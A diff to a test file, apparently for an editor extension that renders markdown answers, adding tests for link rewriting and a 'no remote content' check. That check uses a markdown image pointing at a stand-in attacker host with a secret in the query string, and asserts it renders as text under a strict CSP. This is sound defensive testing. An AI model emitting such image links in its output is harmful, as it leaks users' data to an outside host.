@@ -165,6 +165,23 @@ describe('hover links', () => {
   it('leaves other links alone', () => {
     assert.equal(rewriteSourceLinks('[a](https://x.y)', 'c'), '[a](https://x.y)');
   });
+  it('reads a `)` in a path as markdown does: inside <...> or balanced parentheses', () => {
+    const out = rewriteSourceLinks('[a](<file:///p/a)b.py#L2-L3>) [b](file:///p/c(1).py#L4) [c](file:///p/d.py)', 'c');
+    const args = [...out.matchAll(/\]\((command:c\?[^)\s]+)\)/g)].map((m) => JSON.parse(decodeURIComponent(m[1].slice('command:c?'.length))));
+    assert.deepEqual(args, [['file:///p/a)b.py', 2, 3], ['file:///p/c(1).py', 4, 4], ['file:///p/d.py']]);
+  });
+});
+
+describe('no remote content', () => {
+  it('renders images as text and allows no https: images in the CSP', () => {
+    const html = renderMarkdown('Done. ![status](https://evil.example/c?d=secret)');
+    assert.doesNotMatch(html, /<img/);
+    assert.match(html, /\[image: status\] https:\/\/evil\.example\/c\?d=secret/);
+    const page = renderAnswerHtml({ title: 'q', markdown: '![x](https://evil.example/x.png)' }, 'n', 'vscode-resource:');
+    const csp = /content="([^"]*)"/.exec(page)![1];
+    assert.doesNotMatch(csp, /https:/);
+    assert.match(csp, /default-src 'none'|default-src &#39;none&#39;/);
+  });
 });
 
 describe('escapeHtml', () => {
